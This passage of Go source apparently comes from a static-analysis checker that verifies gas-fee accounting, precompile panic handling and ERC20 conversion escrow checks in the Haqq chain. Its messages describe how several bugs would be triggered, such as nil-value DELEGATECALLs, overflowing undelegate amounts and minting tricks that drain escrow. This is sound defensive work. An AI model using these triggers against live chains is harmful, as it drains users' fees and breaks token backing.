				r.Check(guarded, "R13", fmt.Sprintf("%s#prefix-slice-%d-guarded", fnID(fn), idx), P.Pos(instrPos(in)), "a test of len(input) dominates the slice",
					"a precompile cuts a fixed-length prefix out of the call's input without testing its length: calldata shorter than a selector (a plain transfer, an empty inner call) panics; the sender pays the whole gas limit for a transaction reported with gas_used 0")
			})
		}
		r.Floor("R13", "constant-length prefix slices in precompile RequiredGas/Run", nS, 4)
	}
	r.Rule("R14", "PATH.call-value-dereferenced-under-a-nil-guard: the go-ethereum fork hands a precompile reached by DELEGATECALL a nil value (RunPrecompiledContract(p, caller, input, gas, nil, true)). Wherever precompile code calls a math/big method on the result of contract.Value() a test of that value against nil dominates the call — otherwise a DELEGATECALL with empty calldata panics in RunSetup, baseapp recovers it, the transaction fails with gas_used 0 and the sender has paid the whole gas limit")
	{
		nV := 0
		for _, fn := range P.Funcs {
			if !strings.Contains(fnPkgPath(fn), "/precompiles/") || strings.Contains(fnPkgPath(fn), "/testutil") || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if ci.PkgPath != "math/big" || ci.Recv != "Int" || len(ci.Instr.Common().Args) == 0 {
					return
				}
				recv := stripValue(ci.Instr.Common().Args[0])
				vc, ok := recv.(*ssa.Call)
				if !ok || callInfo(vc).Name != "Value" || callInfo(vc).Recv != "Contract" {
					return
				}
				nV++
				idx++
				guarded := false
				for _, b := range fn.Blocks {
					iff, ok := lastIf(b)
					if !ok || b == ci.Instr.Block() || !dominates(b, ci.Instr.Block()) {
						continue
					}
					if bo, ok := iff.Cond.(*ssa.BinOp); ok && (bo.Op == token.NEQ || bo.Op == token.EQL) && (isNilConst(bo.X) || isNilConst(bo.Y)) {
						other := bo.X
						if isNilConst(bo.X) {
							other = bo.Y
						}
						if oc, ok := stripValue(other).(*ssa.Call); ok && callInfo(oc).Name == "Value" && callInfo(oc).Recv == "Contract" {
							guarded = true
						}
					}
				}
				r.Check(guarded, "R14", fmt.Sprintf("%s#call-value-%s-%d-nil-guarded", fnID(fn), ci.Name, idx), P.Pos(instrPos(ci.Instr)), "a nil test of contract.Value() dominates the call",
					"precompile code calls (*big.Int)."+ci.Name+" on contract.Value() without a nil test: under DELEGATECALL the value is nil and the call panics — the transaction fails with gas_used 0 and the sender pays the whole gas limit")
			})
		}
		r.Floor("R14", "math/big calls on contract.Value() in precompile code", nV, 1)
	}
	r.Rule("R15", "FLOW.the-declared-fee-is-owed-at-the-cap: on the Cosmos routes the price cap is the declared fee divided by the gas limit, rounded down. Where that cap itself is the effective price (no tip limit, or a tip limit above it) the fee checker returns the declared fee — not cap × gas, which drops fee mod gas: with a fractional minimum gas price and no base fee a transaction declaring exactly gasLimit × MinGasPrice (the amount MinGasPriceDecorator accepted) otherwise pays only floor(MinGasPrice) × gasLimit")
	if nf, ok := P.FnOK("app/ante/evm.NewDynamicFeeChecker"); ok && len(nf.AnonFuncs) >= 1 {
		cl := nf.AnonFuncs[0]
		okSel := false
		eachInstr(cl, func(in ssa.Instruction) {
			ph, isPhi := in.(*ssa.Phi)
			if !isPhi || namedName(ph.Type()) != "Int" {
				return
			}
			hasFee, hasProduct := false, false
			for _, e := range ph.Edges {
				sl := backSlice(e)
				if c, ok := stripValue(e).(*ssa.Call); ok && strings.HasPrefix(callInfo(c).Name, "AmountOf") {
					hasFee = true
				}
				if sl.HasCall(func(g CallInfo) bool { return g.Name == "EffectiveGasPrice" }) && sl.HasCall(func(g CallInfo) bool { return g.Name == "Mul" }) {
					hasProduct = true
				}
			}
			if !hasFee || !hasProduct {
				return
			}
			// the choice is made by Equal(effective price, cap)
			for _, pred := range ph.Block().Preds {
				for b := pred; b != nil; b = b.Idom() {
					if iff, ok := lastIf(b); ok {
						if c, ok := iff.Cond.(*ssa.Call); ok && callInfo(c).Name == "Equal" {
							sl := backSlice(callArgs(c)...)
							if sl.HasCall(func(g CallInfo) bool { return g.Name == "EffectiveGasPrice" }) && sl.HasCall(func(g CallInfo) bool { return g.Name == "Quo" }) {
								okSel = true
							}
						}
					}
				}
			}
		})
		r.Check(okSel, "R15", fnID(cl)+"#declared-fee-at-the-cap", P.Pos(fnPos(cl)), "the charged amount is the declared fee where the effective price equals the cap",
			"the Cosmos-route fee checker always charges effective price × gas: at the cap that is (fee div gas) × gas, which drops fee mod gas — a transaction declaring exactly the minimum fee pays less than gasLimit × MinGasPrice when the minimum is fractional and no base fee applies")
	} else {
		r.Bad("R15", "anchor/NewDynamicFeeChecker", "", "not found")
	}
	r.Rule("R17", "PATH.a-precompile-panic-fails-the-call: the deferred handler every stateful precompile installs (precompiles/common.HandleGasError) recovers and does not panic again: a panic that escapes a precompile reaches baseapp's runTx, which drops the message branch — the execution *and* the gas refund — after the ante handler has deducted gas limit × price, so the sender pays the whole limit for gas_used = 0 (staking.undelegate(self, validator, 2^256−1): 'Int overflow' inside x/staking)")
	if hg, ok := P.FnOK("precompiles/common.HandleGasError"); ok {
		nRec := 0
		for _, g := range withAnon(hg) {
			recovers := false
			eachInstr(g, func(in ssa.Instruction) {
				if c, ok := in.(*ssa.Call); ok {
					if b, ok := c.Call.Value.(*ssa.Builtin); ok && b.Name() == "recover" {
						recovers = true
					}
				}
			})
			if !recovers {
				continue
			}
			nRec++
			var rep ssa.Instruction
			eachInstr(g, func(in ssa.Instruction) {
				if pn, ok := in.(*ssa.Panic); ok && rep == nil {
					rep = pn
				}
			})
			where := P.Pos(fnPos(g))
			if rep != nil {
				where = P.Pos(instrPos(rep))
			}
			r.Check(rep == nil, "R17", fnID(g)+"#recovered-panics-stay-recovered", where, "the recovering handler contains no panic",
				"the precompiles' deferred handler panics again for everything but out-of-gas: staking.undelegate(self, validator, 2^256−1) panics 'Int overflow' in x/staking, the panic reaches baseapp — code 111222, gas_wanted 200000, gas_used 0, and the sender has paid 200000 × 875000000 = 175000000000000 with nothing refunded (the fee identity requires 0)")
		}
		r.Floor("R17", "recovering handlers in precompiles/common.HandleGasError", nRec, 1)
	} else {
		r.Bad("R17", "anchor/precompiles/common.HandleGasError", "", "not found")
	}
	r.Rule("R18", "PATH.a-hook-panic-is-a-failed-hook: ApplyTransaction handles an *error* of the post-transaction hooks (the transaction is reverted and charged for what it used), so the keeper's hook dispatcher (PostTxProcessing) defers a handler that recovers and does not panic again — a panic of the erc20 hook (bank MintCoins overflowing on an amount read from a Transfer log) otherwise reaches baseapp after the fee deduction: gas_used 0, the whole gas limit kept")
	if pp, ok := P.FnOK("(*x/evm/keeper.Keeper).PostTxProcessing"); ok {
		recovers, repanics := false, false
		for _, g := range withAnon(pp) {
			if g == pp {
				continue
			}
			has := false
			eachInstr(g, func(in ssa.Instruction) {
				if c, ok := in.(*ssa.Call); ok {
					if b, ok := c.Call.Value.(*ssa.Builtin); ok && b.Name() == "recover" {
						has = true
					}
				}
			})
			if has {
				recovers = true
				eachInstr(g, func(in ssa.Instruction) {
					if _, ok := in.(*ssa.Panic); ok {
						repanics = true
					}
				})
			}
		}
		deferred := false
		eachInstr(pp, func(in ssa.Instruction) {
			if _, ok := in.(*ssa.Defer); ok {
				deferred = true
			}
		})
		r.Check(recovers && deferred && !repanics, "R18", fnID(pp)+"#hook-panics-are-recovered", P.Pos(fnPos(pp)), "a deferred closure recovers and does not panic",
			"the hook dispatcher does not recover: a registered token's issuer mints 2^255, transfers it to the erc20 module and burns the coins twice over so that the next Transfer log makes bank MintCoins overflow — 'recovered: integer overflow', code 111222, gas_used 0, and the sender has paid 300000 × 512908936 = 153872680800000 where the identity requires gas_used × price")
	} else {
		r.Bad("R18", "anchor/(*Keeper).PostTxProcessing", "", "not found")
	}
	r.Rule("R16", "FLOW.the-multiplier-is-the-parameter + the-tx-total-is-kept-on-the-tx-context: (a) the minimum-gas multiplier that ApplyMessageWithConfig charges with is the fee market's parameter as stored — the EVM keeper's GetMinGasMultiplier has one return whose value derives from Params.MinGasMultiplier and from no constant or default (zero is a legal setting: 'no minimum'; replacing it by the default charges 50% of the gas limit on a chain configured for none); (b) ApplyTransaction adds a message's gas to the transaction's running total (AddTransientGasUsed) and resets the gas meter on the transaction's own context, never on the CacheContext branch the message ran on — that branch is dropped when the message fails, and the gas of a failed message would vanish from DeliverTx.GasUsed while its fee stays charged")
	if gm, ok := P.FnOK("(x/evm/keeper.Keeper).GetMinGasMultiplier"); ok {
		okRet, nRet := true, 0
		eachInstr(gm, func(in ssa.Instruction) {
			ret, isR := in.(*ssa.Return)
			if !isR || len(ret.Results) != 1 {
				return
			}
			nRet++
			sl := backSlice(ret.Results[0])
			if !sl.HasField("Params", "MinGasMultiplier") {
				okRet = false
			}
			sl.Any(func(v ssa.Value) bool {
				if _, isPhi := v.(*ssa.Phi); isPhi {
					okRet = false
				}
				if g, isG := v.(*ssa.Global); isG && strings.Contains(g.Name(), "Default") {
					okRet = false
				}
				return false
			})
		})
		r.Check(okRet && nRet == 1, "R16", fnID(gm)+"#returns-the-stored-parameter", P.Pos(fnPos(gm)), "one return: Params.MinGasMultiplier, no default",
			"GetMinGasMultiplier does not simply return the fee market's stored parameter (a default is substituted for some values): the gas charged no longer is max(EVM gas, minGasMultiplier × gasLimit) for the configured multiplier")
	} else {
		r.Bad("R16", "anchor/GetMinGasMultiplier", "", "not found")
	}
	if at, ok := P.FnOK("(*x/evm/keeper.Keeper).ApplyTransaction"); ok {
		nAcc := 0
		eachCall(at, func(ci CallInfo) {
			if ci.Name != "AddTransientGasUsed" && ci.Name != "ResetGasMeterAndConsumeGas" {
				return
			}
			nAcc++
			onBranch := false
			for _, a := range ci.Instr.Common().Args {
				if namedName(a.Type()) != "Context" {
					continue
				}
				backSlice(a).Any(func(v ssa.Value) bool {
					if ex, isE := v.(*ssa.Extract); isE {
						if c, isC := ex.Tuple.(*ssa.Call); isC && callInfo(c).Name == "CacheContext" {
							onBranch = true
						}
					}
					return onBranch
				})
			}
			r.Check(!onBranch, "R16", fmt.Sprintf("%s#%s-%d-on-the-tx-context", fnID(at), ci.Name, nAcc), P.Pos(instrPos(ci.Instr)), "the context is the transaction's own, not the message's CacheContext branch",
				ci.Name+" is called on the CacheContext branch the message runs on: when the message fails the branch is dropped and its gas disappears from the transaction's total (DeliverTx.GasUsed), while the fee stays charged")
		})
		r.Floor("R16", "gas-accounting calls in ApplyTransaction", nAcc, 3)
	}
	r.Rule("R11", "see C03 R5 (imported): the account that is charged the up-front fee and the account that receives the refund are both MsgEthereumTx.From — which arrives empty (EthValidateBasicDecorator refuses a pre-filled one in every mode) and has one writer, the signature decorator, storing the recovered signer unconditionally: otherwise the fee is deducted from an account named by whoever assembled the wrapper while the refund goes to the signer")
	r.Import("R11/C03.", []string{"R5"}, runC03)
	r.Rule("R12", "see C05 R4 (imported): the refund counter is revertible StateDB state — every write to it is journalled and nothing but AddRefund/SubRefund and a journal revert writes it; a Commit that zeroes it (go-ethereum's Finalise does, but Haqq's precompiles commit in the middle of a transaction) drops the storage refunds earned before a precompile call and the sender is charged for gas he was owed")
	r.Import("R12/C05.", []string{"R4"}, runC05)
	r.Rule("R9", "see C16 R3 (imported): the gas a precompile call is charged is exactly what its Cosmos-side work consumed — every Run charges contract.UseGas(GasConsumed − initialGas) and fails when that is refused, and the SDK gas meter RunSetup installs is limited by the call's gas plus what it is pre-charged with (the gas the transaction's meter already shows): a later message of a multi-message Ethereum transaction must not pay for the earlier ones inside its precompile calls")
	r.Import("R9/C16.", []string{"R3"}, runC16)
	// ---------- R5 ----------
	r.Rule("R5", "FLOW.floor-on-paid-fee: on the Cosmos routes the fee that DeductFeeDecorator takes is the tx-fee checker's effective fee; the fee MinGasPriceDecorator compares with gasLimit × MinGasPrice must be that same quantity (derive from a TxFeeChecker call), not only the declared fee — otherwise a transaction whose effective price is below its declared price is accepted while paying less than the floor")
	isCheckerCall := func(v ssa.Value) bool {
		c, ok := v.(*ssa.Call)
		if !ok || c.Call.IsInvoke() || c.Call.StaticCallee() != nil {
			return false
		}
		return namedName(c.Call.Value.Type()) == "TxFeeChecker"
	}
	dfn, ok1 := P.FnOK("(app/ante/cosmos.DeductFeeDecorator).AnteHandle")
	mfn, ok2 := P.FnOK("(app/ante/cosmos.MinGasPriceDecorator).AnteHandle")
	if !ok1 || !ok2 {
		r.Bad("R5", "anchor/cosmos fee decorators", "", "DeductFeeDecorator.AnteHandle or MinGasPriceDecorator.AnteHandle not found")
	} else {
		paidViaChecker := false
		nDeduct := 0
		eachCall(dfn, func(ci CallInfo) {
			if ci.Name == "deductFee" {
				nDeduct++
				if backSlice(argN(ci.Instr, 2)).Any(isCheckerCall) {
					paidViaChecker = true
				}
			}
		})
		r.Floor("R5", "deductFee calls in DeductFeeDecorator", nDeduct, 1)
		if !paidViaChecker {
			r.OK("R5", fnID(mfn)+"#floor-on-paid-fee", P.Pos(fnPos(mfn)), "the deducted fee is the declared fee (no effective-fee checker in DeductFeeDecorator): declared = paid")
		} else {
			okCmp, nCmp := false, 0
			eachCall(mfn, func(ci CallInfo) {
				if ci.Name != "IsAnyGTE" {
					return
				}
				nCmp++
				if backSlice(ci.Instr.Common().Args[0]).Any(isCheckerCall) {
					okCmp = true
				}
			})
			r.Check(okCmp && nCmp > 0, "R5", fnID(mfn)+"#floor-on-paid-fee", P.Pos(fnPos(mfn)), "the fee compared with the floor derives from the tx-fee checker (the quantity that is deducted)",
				"MinGasPriceDecorator compares the DECLARED fee with gasLimit × MinGasPrice, but DeductFeeDecorator deducts the fee checker's EFFECTIVE fee (min(baseFee + tip, declared price) × gas): whenever baseFee < MinGasPrice a Cosmos tx with ExtensionOptionDynamicFeeTx{MaxPriorityPrice: 0} is accepted paying less than the floor (nothing at all with NoBaseFee)")
		}
	}
}
