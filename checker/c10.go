package main

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C10",
		Run: runC10,
		Explanation: "Static analysis of the ERC20↔coin conversion code: (R1) each of the four conversion functions passes, on every success path, the escrow/burn and mint/unescrow events of its direction with amounts derived from the same message field, the boolean result of ERC20 transfer, the before/after balance comparison(s) and the Approval monitor, and the escrow is verified before coins are minted; " +
			"(R2) the erc20 module account mints/burns only at the confirmed sites; (R3) every mint of pair coins is preceded by a before/after comparison of the module's token escrow; (R4) no failure branch returns errors.Wrap(nil) (which is nil, i.e. success); " +
			"(R5) the IBC callbacks convert only through ConvertCoin and turn its error into an error acknowledgement / returned error, and the middleware runs the wrapped application first.",
		Assumptions: []string{"the EVM executes the registered ERC20 contract faithfully; bank keeper moves exactly the given coins", "ibc-core discards the callback's state changes when an error acknowledgement is returned"},
		Declined:    []string{"the backing equation supply ≤ escrow over all histories against arbitrary token bytecode"},
		Thorough:    wholeProgramAckCommit,
	})
}

const erc20K = "x/erc20/keeper"

type evSpec struct {
	name string
	pred func(ci CallInfo) bool
}

func strArg(c ssa.CallInstruction, want string) bool {
	for _, a := range c.Common().Args {
		if s, ok := constString(a); ok && s == want {
			return true
		}
	}
	return false
}

func isModuleAddressLoad(v ssa.Value) bool {
	return backSlice(v).Any(func(x ssa.Value) bool {
		g, ok := x.(*ssa.Global)
		return ok && g.Name() == "ModuleAddress"
	})
}

// cmpNotZeroGuard: `X.Cmp(Y) != 0` (or the `r := …; r != 0` form); passes when equal.
func cmpEqualGuard(accept func(cmp *ssa.Call) bool) condMatch {
	return func(cond ssa.Value) (bool, bool) {
		b, ok := cond.(*ssa.BinOp)
		if !ok || (b.Op != token.NEQ && b.Op != token.EQL) {
			return false, false
		}
		if n, ok := constInt(b.Y); !ok || n != 0 {
			return false, false
		}
		c, ok := callNamed(b.X, "Cmp")
		if !ok || !accept(c) {
			return false, false
		}
		return b.Op == token.EQL, true
	}
}

func runC10(r *Run) {
	defer importProcessLocal(r, "RM", "x/erc20")
	defer func() {
		r.Rule("R8", "PATH.params-authority: the erc20 message handlers whose request carries an Authority field (MsgUpdateParams: EnableErc20, EnableEVMHook, …) write module state only where it equals the module authority — conversion switches and hooks are governance-controlled")
		r.Floor("R8", "authority-guarded erc20 message handlers", checkAuthorityGuards(r, "R8", "x/erc20/keeper"), 1)
	}()
	P := r.P
	r.Rule("R1", "PATH+FLOW.pairing: per conversion function, every success exit is preceded by all tabled events (error-checked) and guards; amounts derive from the message's amount field; in convertERC20NativeToken the escrow comparison precedes MintCoins")
	r.Rule("R2", "OWN.erc20-mint: MintCoins/BurnCoins(…,\"erc20\",…) only in convertERC20NativeToken (mint), convertCoinNativeERC20 (burn) and PostTxProcessing (mint)")
	r.Rule("R3", "PATH.mint-escrow-verified: every MintCoins for the erc20 module account is preceded, in the same function, by a comparison of two BalanceOf(…, ModuleAddress) reads (escrow before/after)")
	r.Rule("R4", "NILWRAP: no consensus-reachable function returns errors.Wrap/Wrapf(e, …) where e is provably nil on that path")
	r.Rule("R5", "PATH.ibc: Keeper.OnRecvPacket returns NewErrorAcknowledgement on every path after a failed ConvertCoin; ConvertCoinToERC20FromPacket returns the ConvertCoin error; OnAcknowledgementPacket converts only on the error-acknowledgement case; the middleware calls the wrapped module first and skips conversion on a failed acknowledgement")

	modName, _ := P.constOf(haqqMod+"/x/erc20/types", "ModuleName")
	depMsg := func(v ssa.Value, field string) bool {
		s := backSlice(v)
		if !(s.HasField("MsgConvertCoin", field) || s.HasField("MsgConvertERC20", field)) {
			return false
		}
		// the quantity is the message's, unchanged: no arithmetic and no other quantity (balance, EVM result) flows in
		return !s.Any(func(y ssa.Value) bool { c, isCall := y.(*ssa.Call); return isCall && quantityChangingCall(callInfo(c)) })
	}
	bankEv := func(name string, modArg int, amtArg int, field string) evSpec {
		return evSpec{name, func(ci CallInfo) bool {
			if ci.Name != name || !errHandled(ci.Instr) {
				return false
			}
			s, ok := constString(argN(ci.Instr, modArg))
			return ok && s == modName && depMsg(argN(ci.Instr, amtArg), field)
		}}
	}
	evmEv := func(method string, field string, fromModule bool) evSpec {
		return evSpec{"CallEVM(" + method + ")", func(ci CallInfo) bool {
			if ci.Name != "CallEVM" || !errHandled(ci.Instr) || !strArg(ci.Instr, method) {
				return false
			}
			if fromModule && !isModuleAddressLoad(argN(ci.Instr, 2)) {
				return false
			}
			return depMsg(ci.Instr.Common().Args[len(ci.Instr.Common().Args)-1], field)
		}}
	}
	approvalEv := evSpec{"monitorApprovalEvent", func(ci CallInfo) bool { return ci.Name == "monitorApprovalEvent" && errHandled(ci.Instr) }}
	tokenCmp := func(amountField string, moduleEscrow bool) condMatch {
		return cmpEqualGuard(func(c *ssa.Call) bool {
			a := callArgs(c)
			after, exp := backSlice(a[0]), backSlice(a[1])
			isBal := func(s *Slice) bool { return s.HasCall(func(ci CallInfo) bool { return ci.Name == "BalanceOf" }) }
			okExp := isBal(exp) && (exp.HasField("MsgConvertCoin", amountField) || exp.HasField("MsgConvertERC20", amountField))
			if !isBal(after) || !okExp {
				return false
			}
			if moduleEscrow {
				return after.Any(func(v ssa.Value) bool {
					cc, ok := v.(*ssa.Call)
					return ok && callInfo(cc).Name == "BalanceOf" && isModuleAddressLoad(cc.Call.Args[len(cc.Call.Args)-1])
				})
			}
			return true
		})
	}
	coinEq := func(field string) condMatch {
		return func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "IsEqual")
			if !ok {
				return false, false
			}
			a := callArgs(c)
			after, exp := backSlice(a[0]), backSlice(a[1])
			isBal := func(s *Slice) bool { return s.HasCall(func(ci CallInfo) bool { return ci.Name == "GetBalance" }) }
			return true, isBal(after) && isBal(exp) && (exp.HasField("MsgConvertERC20", field) || exp.HasField("MsgConvertCoin", field))
		}
	}
	boolRet := func(cond ssa.Value) (bool, bool) {
		// `unpackedRet.Value` of ERC20BoolResponse
		return true, backSlice(cond).HasField("ERC20BoolResponse", "Value") && isBoolLoad(cond)
	}

	type fnSpec struct {
		id     string
		events []evSpec
		guards map[string]condMatch
	}
	specs := []fnSpec{
		{"(" + erc20K + ".Keeper).convertCoinNativeCoin",
			[]evSpec{bankEv("SendCoinsFromAccountToModule", 2, 3, "Coin"), evmEv("mint", "Coin", true)},
			map[string]condMatch{"token-balance-check": tokenCmp("Coin", false)}},
		{"(" + erc20K + ".Keeper).convertERC20NativeCoin",
			[]evSpec{evmEv("burnCoins", "Amount", true), bankEv("SendCoinsFromModuleToAccount", 1, 3, "Amount")},
			map[string]condMatch{"token-balance-check": tokenCmp("Amount", false), "coin-balance-check": coinEq("Amount")}},
		{"(" + erc20K + ".Keeper).convertERC20NativeToken",
			[]evSpec{
				{"CallEVMWithData(transfer→module)", func(ci CallInfo) bool {
					if ci.Name != "CallEVMWithData" || !errHandled(ci.Instr) {
						return false
					}
					d := backSlice(argN(ci.Instr, 3))
					return d.HasCall(func(g CallInfo) bool { return g.Name == "Pack" && strArg(g.Instr, "transfer") }) && d.HasField("MsgConvertERC20", "Amount") && isModuleAddressLoad(argN(ci.Instr, 3))
				}},
				bankEv("MintCoins", 1, 2, "Amount"), bankEv("SendCoinsFromModuleToAccount", 1, 3, "Amount"), approvalEv},
			map[string]condMatch{"transfer-returned-true": boolRet, "escrow-balance-check": tokenCmp("Amount", true), "coin-balance-check": coinEq("Amount")}},
		{"(" + erc20K + ".Keeper).convertCoinNativeERC20",
			[]evSpec{bankEv("SendCoinsFromAccountToModule", 2, 3, "Coin"), evmEv("transfer", "Coin", true), bankEv("BurnCoins", 1, 2, "Coin"), approvalEv},
			map[string]condMatch{"transfer-returned-true": boolRet, "token-balance-check": tokenCmp("Coin", false), "escrow-balance-check": tokenCmp("Coin", true)}},
	}
	for _, sp := range specs {
		fn, ok := P.FnOK(sp.id)
		if !ok {
			r.Bad("R1", "anchor/"+sp.id, "", "conversion function not found")
			continue
		}
		where := P.Pos(fnPos(fn))
		for _, ev := range sp.events {
			pred := isCallMatching(ev.pred)
			w := Precedes(fn, pred, isSuccessExit, nil)
			r.Check(w == nil, "R1", fnID(fn)+"#event/"+ev.name, where, "on every success path", "the conversion can succeed without "+ev.name+" (error-checked, with the message's amount and the erc20 module account): one representation is credited without debiting the other", P.witness(w)...)
		}
		for gname, g := range sp.guards {
			requireGuard(r, "R1", fnID(fn)+"#guard/"+gname, fn, g, nil, isSuccessExit, "success only over the passing edge", "the conversion can succeed without the "+gname+" post-condition: a token contract that misreports or under-delivers would not be caught")
		}
		if strings.HasSuffix(sp.id, "convertCoinNativeERC20") {
			// the coins are destroyed only once the escrow is known to have paid exactly the amount: a token that charges
			// the sender something on top (and reports every balance truthfully) otherwise leaves fewer tokens escrowed
			// than coins outstanding
			isBurn := isCallMatching(func(ci CallInfo) bool { return ci.Name == "BurnCoins" })
			requireGuard(r, "R1", fnID(fn)+"#escrow-verified-before-burn", fn, sp.guards["escrow-balance-check"], nil, isBurn, "BurnCoins reachable only after the escrow comparison passed", "the escrowed coins can be burned before (or without) the comparison of the module's token balance before and after the transfer: a token contract that takes more from the sender than it gives the receiver drains the escrow below the coin supply")
		}
		if strings.HasSuffix(sp.id, "convertERC20NativeToken") {
			isMint := isCallMatching(func(ci CallInfo) bool { return ci.Name == "MintCoins" })
			requireGuard(r, "R1", fnID(fn)+"#escrow-verified-before-mint", fn, sp.guards["escrow-balance-check"], nil, isMint, "MintCoins reachable only after the escrow comparison passed", "coins can be minted before (or without) verifying that the module's token escrow grew by the amount")
		}
	}

	// the bank-send wrapper moves pair tokens itself: same post-conditions
	if fn, ok := P.FnOK("(x/bank/keeper.msgServer).subUnlockedERC20Tokens"); ok {
		where := P.Pos(fnPos(fn))
		isTransfer := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "CallEVM" || !errHandled(ci.Instr) || !strArg(ci.Instr, "transfer") {
				return false
			}
			a := ci.Instr.Common().Args
			va := backSlice(a[len(a)-1])
			return va.HasParam("amt") && va.HasParam("toAddr") && backSlice(argN(ci.Instr, 2)).HasParam("fromAddr")
		})
		w := Precedes(fn, isTransfer, isSuccessExit, nil)
		r.Check(w == nil, "R1", fnID(fn)+"#event/CallEVM(transfer)", where, "on every success path", "the wrapper can succeed without the ERC20 transfer(from → to, amt)", P.witness(w)...)
		requireGuard(r, "R1", fnID(fn)+"#guard/transfer-returned-true", fn, boolRet, nil, isSuccessExit, "success only where transfer returned true", "the bank-send wrapper can report success although the token's transfer returned false")
		requireGuard(r, "R1", fnID(fn)+"#guard/token-balance-check", fn, cmpEqualGuard(func(c *ssa.Call) bool {
			a := callArgs(c)
			after, exp := backSlice(a[0]), backSlice(a[1])
			isBal := func(s *Slice) bool { return s.HasCall(func(ci CallInfo) bool { return ci.Name == "BalanceOf" }) }
			return isBal(after) && isBal(exp) && exp.HasParam("amt")
		}), nil, isSuccessExit, "success only where the receiver's token balance grew by amt", "the bank-send wrapper can succeed without checking that the receiver's token balance grew by the amount")
		w = Precedes(fn, isCallMatching(approvalEv.pred), isSuccessExit, nil)
		r.Check(w == nil, "R1", fnID(fn)+"#event/monitorApprovalEvent", where, "on every success path", "the wrapper can succeed without the unexpected-Approval monitor", P.witness(w)...)
	} else {
		r.Bad("R1", "anchor/subUnlockedERC20Tokens", "", "bank send wrapper conversion not found")
	}

	// ---------- R2 ----------
	checkMintBurnOwnership(r, "R2", modName, map[string]string{
		"(" + erc20K + ".Keeper).convertERC20NativeToken": "mint for escrowed ERC20-origin tokens",
		"(" + erc20K + ".Keeper).convertCoinNativeERC20":  "burn when ERC20-origin tokens are released",
		"(" + erc20K + ".Keeper).PostTxProcessing":        "mint for tokens transferred to the module address (hook)",
	}, 3)

	// ---------- R3 ----------
	for _, s := range mintBurnSites(P) {
		if s.Kind != "MintCoins" || !s.Const || s.Module != modName {
			continue
		}
		fn := s.Fn
		g := cmpEqualGuard(func(c *ssa.Call) bool {
			a := callArgs(c)
			isModBal := func(v ssa.Value) bool {
				return backSlice(v).Any(func(x ssa.Value) bool {
					cc, ok := x.(*ssa.Call)
					return ok && callInfo(cc).Name == "BalanceOf" && isModuleAddressLoad(cc.Call.Args[len(cc.Call.Args)-1])
				})
			}
			return isModBal(a[0]) && isModBal(a[1])
		})
		pass, _ := guardPassEdges(fn, g)
		inst := fnID(outermost(fn)) + "#mint-escrow-verified"
		if len(pass) == 0 {
			r.Bad("R3", inst, P.Pos(instrPos(s.Call)), "pair coins are minted without comparing the module's token escrow before and after: the mint trusts the token contract's Transfer event alone, so a registered contract that emits Transfer(…, module, n) without moving n tokens mints unbacked coins")
			continue
		}
		w := PathQuery{Fn: fn, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(s.Call) }, DelEdge: edgeSet(pass)}.Search()
		r.Check(w == nil, "R3", inst, P.Pos(instrPos(s.Call)), "mint only after the escrow comparison passed", "MintCoins is reachable without the escrow comparison having passed", P.witness(w)...)
	}

	// ---------- R4 ----------
	nilWrapRule(r, "R4")

	// ---------- R7 ----------
	r.Rule("R7", "ERR.conversion-errors-propagate: a conversion escrows/burns first and checks its post-condition last, relying on the caller to fail the transaction; so at every consensus-scope call site of a function from which one of the four convert* functions is reachable (within x/erc20 and its IBC middleware), a non-nil error result cannot lead to a success exit: the error is returned, or the non-nil edge reaches only failure exits (tabled exception: the IBC receive path turns the error into an error acknowledgement, decided by R5)")
	{
		convs := map[*ssa.Function]bool{}
		for _, n := range []string{"convertCoinNativeCoin", "convertCoinNativeERC20", "convertERC20NativeCoin", "convertERC20NativeToken"} {
			if f, ok := P.FnOK("(" + erc20K + ".Keeper)." + n); ok {
				convs[f] = true
			}
		}
		reach := map[*ssa.Function]bool{}
		for f := range convs {
			reach[f] = true
		}
		for changed := true; changed; {
			changed = false
			for _, fn := range P.Funcs {
				if reach[fn] || isTestSupport(P, fn) || !strings.HasPrefix(fnPkgPath(fn), haqqMod+"/x/erc20") {
					continue
				}
				eachCall(fn, func(ci CallInfo) {
					if ci.Static != nil && reach[ci.Static] && !reach[fn] {
						reach[fn] = true
						changed = true
					}
				})
			}
		}
		ackException := map[string]string{
			"(x/erc20/keeper.Keeper).OnRecvPacket": "a failed conversion becomes an error acknowledgement (R5), which makes the transfer module revert the receive",
			"app/upgrades/v1.7.6.TurnOnDAO$1":      "one-off upgrade migration (already executed) that by design logs and skips per-account failures inside an account iterator; it converts module-deployed liquid-token contracts only; not a message path",
		}
		nSites := 0
		for _, fn := range scopesOf(r).S.HaqqFuncs() {
			if isTestSupport(P, fn) || isGeneratedFile(P.FileOf(fnPos(fn))) {
				continue
			}
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if ci.Static == nil || !reach[ci.Static] || errResultOf(ci.Instr) == nil {
					return
				}
				nSites++
				idx++
				inst := fmt.Sprintf("%s#err-of-%s-%d", fnID(fn), ci.Static.Name(), idx)
				where := P.Pos(instrPos(ci.Instr))
				if why, ok := ackException[fnID(fn)]; ok {
					r.OK("R7", inst, where, "tabled: "+why)
					return
				}
				// returned as is?
				e := errResultOf(ci.Instr)
				direct := false
				eachInstr(fn, func(in ssa.Instruction) {
					if ret, ok := in.(*ssa.Return); ok {
						for _, op := range retOperands(ret) {
							if op == e {
								direct = true
							}
						}
					}
				})
				edges := errEdges(ci.Instr)
				if len(edges) == 0 {
					r.Check(direct, "R7", inst, where, "error returned unchanged", "the error of a conversion call is neither returned nor tested: a half-done conversion (coins escrowed, tokens released) would be committed")
					return
				}
				okP := true
				var wit []string
				for _, ed := range edges {
					if w := (PathQuery{Fn: fn, StartBlock: ed.From.Succs[ed.Succ], Target: isSuccessExit}).Search(); w != nil {
						okP = false
						wit = P.witness(w)
					}
				}
				r.Check(okP, "R7", inst, where, "a non-nil error reaches only failure exits", "after a failed conversion the caller can still return success (the error is only logged or ignored): the half-done conversion — coins escrowed but not burned, tokens already released — is committed and coin supply is no longer backed", wit...)
			})
		}
		r.Floor("R7", "call sites of conversion-reaching functions in consensus scope", nSites, 8)
	}

	// ---------- R6 ----------
